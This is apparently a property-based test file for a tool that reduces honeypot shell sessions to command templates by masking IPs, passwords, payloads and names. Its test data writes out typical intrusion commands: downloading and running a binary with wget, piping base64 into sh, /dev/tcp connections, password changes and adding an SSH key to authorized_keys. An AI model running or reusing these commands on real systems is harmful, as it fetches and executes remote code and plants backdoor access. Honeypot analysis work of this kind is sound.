"""Templates: properties that hold for every text."""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from cowrie_sessionstats.commands import Script, Templates, default_vocabulary
from cowrie_sessionstats.commands._items import PLACEHOLDER, PLACEHOLDERS

VOCABULARY = default_vocabulary()
TEMPLATES = Templates(VOCABULARY)
FRAGMENTS = [
    '"', "'", "\\", "$(", ")", "`", "<", ">", ">>", "<<", "<<<", "EOF", "\n", ";", "&&", "|", "&",
    " ", "  ", "\t", "a", "x41", "\\x41", "\\177", "/", ".", "-", "=", "$x", "${a", "}", "{", "(",
    "http://1.2.3.4/a", "1.2.3.4", "::1", "echo", "printf", "passwd", "chpasswd", "busybox",
    "kill", "123456", "root:pw", "base64 -d", "sh -c ", "#", "<ip>", "<secret>", "\\<ip>",
    "\\\\<name1>", "/etc/x", "ABCDE", "kqzxw", "Xk29sLq", "é", "\x00", "\x1b[31m", "\udc80",
    "wget ", "curl -o ", "cp ", "for ", "do ", "done", "in ", "if ", "\r\n", "\\\n", "A=b",
    "export ", "PATH=", "--password=", "-p", "u:", "@", ",", "~", "*", "?", "!", "%", "[", "]",
    "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", "$6$abcdefgh$Qqqqqqqqqqqqq", "ssh-rsa AAAAB3NzaC1yc2EA",
    "0x7f000001", "8.8.8.8:53", "/dev/tcp/1.1.1.1/4", "\x85", "\u2028", "\u00a0", "1", "\x0b",
]  # fmt: skip
"""What shell text and our rules are made of: the corners lie where these meet."""

texts = st.text(max_size=200) | st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join)
# The same cases in every run: a corner that a chance run finds is no reason for a red build, but
# for an example here. tests/fuzz_templates.py looks for them by the million.
everything = settings(max_examples=1500, derandomize=True)


def template(line: str) -> str:
    """Return the template of a line that is alone in its session."""
    return Script().add(line, TEMPLATES)


def escaped(text: str) -> str:
    """Return a template as it is when it comes as a command line: its placeholders are text."""
    return re.sub(rf"(?<!\\)((?:\\\\)*)({PLACEHOLDER})", r"\1\\\2", text)


@everything
@given(texts)
def test_any_text_has_a_template(line: str) -> None:
    """Total, and the same each time, from a cache that is filled and from one that is not."""
    assert isinstance(template(line), str)
    assert template(line) == Script().add(line, Templates(VOCABULARY))


@everything
@given(texts)
@example("1<secret>")
@example('chpasswd <<< "')
@example("<<x`a`\nb")
@example("-p8.8.8.8:53<<<x")
@example("A=b --password=a")
@example("\\\u2028")
def test_a_template_is_a_fixed_point(line: str) -> None:
    """Templating it again changes nothing but that its placeholders are text: they are escaped."""
    once = template(line)
    twice = template(once)
    assert twice == escaped(once)
    assert template(twice) == twice


white = st.text(" \t\r\x0b\x0c", min_size=1, max_size=3)


@everything
@given(st.data(), texts)
def test_white_space_does_not_count(data: st.DataObject, line: str) -> None:
    """More of it, other kinds of it, and some around the line: the template is the same."""
    if line.endswith("\\"):
        return  # there it is escaped
    other = re.sub(
        r"(?<!\\)[ \t]+(?![ \t\n])", lambda _: data.draw(white), line.replace("\r\n", "\n")
    )
    assert template(data.draw(white) + other + data.draw(white)) == template(line)


@everything
@given(st.sampled_from([f"<{name}>" for name in PLACEHOLDERS] + ["<name1>", "<var2>"]), texts)
def test_text_that_looks_like_a_placeholder_is_escaped(placeholder: str, before: str) -> None:
    """It can stand anywhere: nobody makes a template say what was not there."""
    for line in (before + placeholder, f"echo {placeholder}", f"echo 'x {placeholder} y'"):
        shown = template(line)
        for match in re.finditer(rf"(\\*){re.escape(placeholder)}", shown):
            if match.end() == len(shown) or line != before + placeholder:
                assert len(match[1]) % 2 == 1 or placeholder == "<cut>", (line, shown)


OF_A_KIND: dict[str, tuple[Callable[[str], str], st.SearchStrategy[str]]] = {
    "ip": (lambda v: f"ping {v}; cat < /dev/tcp/{v}/80", st.ip_addresses(v=4).map(str)),
    "ipv6": (lambda v: f"echo [{v}] ; ping6 {v}", st.ip_addresses(v=6).map(str)),
    "port": (lambda v: f"nc 198.51.100.1 {v}; ssh -p {v} root@198.51.100.1",
             st.integers(1, 65535).map(str)),
    "password": (lambda v: f'echo -e "{v}\\n{v}"|passwd; echo "root:{v}" | chpasswd',
                 st.text("ABCXYZabcxyz0189!@%^_-+=:,.", min_size=1, max_size=16)),
    "secret option": (lambda v: f"usermod -p '{v}' root; sshpass -p '{v}' ssh root@198.51.100.1",
                      st.text("ABCXYZabcxyz0189!@%^_-+=:,.$/ ", min_size=1, max_size=16)
                      .filter(str.strip)),
    "applet": (lambda v: f"/bin/busybox {v}; tftp; /bin/busybox {v}",
               st.text("ABCDEFGHIJKLMNOPQRSTUVWXYZ", min_size=5, max_size=8)),
    "bytes": (lambda v: f"echo -ne '{v}' >> /tmp/.f",
              st.binary(min_size=1, max_size=40)
              .map(lambda raw: "".join(f"\\x{b:02x}" for b in raw))),
    "octal": (lambda v: f'printf "{v}" > x.bin',
              st.binary(min_size=1, max_size=40)
              .map(lambda raw: "".join(f"\\{b:03o}" for b in raw))),
    "base64": (lambda v: f"echo {v}|base64 -d|sh",
               st.binary(min_size=1, max_size=90).map(lambda raw: b64encode(raw).decode())),
    "pid": (lambda v: f"kill -9 {v}; ls /proc/{v}/fd", st.integers(2, 4_194_304).map(str)),
    "uuid": (lambda v: f"curl -d id={v} -X POST https://example.com", st.uuids().map(str)),
    "name": (lambda v: f"cp /bin/echo .{v}; >.{v}; chmod 777 /tmp/.{v}; ./.{v} & rm -f .{v}",
             st.text("abcdefghijklmnopqrstuvwxyz0123456789", min_size=2, max_size=12)
             .map(lambda v: "q" + v)),
    "download": (lambda v: f"wget http://198.51.100.9/{v}; chmod +x {v}; ./{v}; rm {v}",
                 st.text("abcdefghijklmnopqrstuvwxyz", min_size=3, max_size=12)),
    "key": (lambda v: f'echo "ssh-ed25519 {v} me">>~/.ssh/authorized_keys',
            st.binary(min_size=12, max_size=60)
            .map(lambda raw: "AAAAC3NzaC1lZDI1NTE5" + b64encode(raw).decode())),
}  # fmt: skip


@everything
@given(st.sampled_from(sorted(OF_A_KIND)), st.data())
def test_a_masked_value_never_changes_the_template(kind: str, data: st.DataObject) -> None:
    """Two sessions that differ in one value of a kind that scripts draw have one template."""
    make, values = OF_A_KIND[kind]
    ours, theirs = make(data.draw(values)), make(data.draw(values))
    assert template(ours) == template(theirs)


commands = sorted(VOCABULARY.commands - {"{", "}", "[", "[[", "!", "time", "in", "do", "then"})


@everything
@given(st.sampled_from(commands), st.sampled_from(commands), st.sampled_from(["-a", "-r", "x"]))
def test_another_program_always_makes_another_template(ours: str, theirs: str, rest: str) -> None:
    """Programs are what a person chose."""
    if ours != theirs:
        for line in ("{} " + rest, "cd /tmp; {} " + rest, "echo $({} " + rest + ")"):
            assert template(line.format(ours)) != template(line.format(theirs))


letters = st.text("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", min_size=1, max_size=4)


@everything
@given(st.sampled_from(["uname", "ls", "wget", "grep", "busybox wget", "./x"]), letters, letters)
def test_another_flag_always_makes_another_template(program: str, ours: str, theirs: str) -> None:
    """Flags are what a person chose."""
    if ours != theirs:
        assert template(f"{program} -{ours}") != template(f"{program} -{theirs}")


@pytest.mark.parametrize("length", [1 << 16, 1 << 17])
@pytest.mark.parametrize("piece", ['"', "\\", "$(", "a", "\\x41", "QUJD", "<<", ";", "`", "/a"])
def test_a_long_line_has_a_short_template(piece: str, length: int) -> None:
    """What is over the bounds is cut, and the template says so."""
    assert len(template((piece * length)[:length])) < 1 << 17
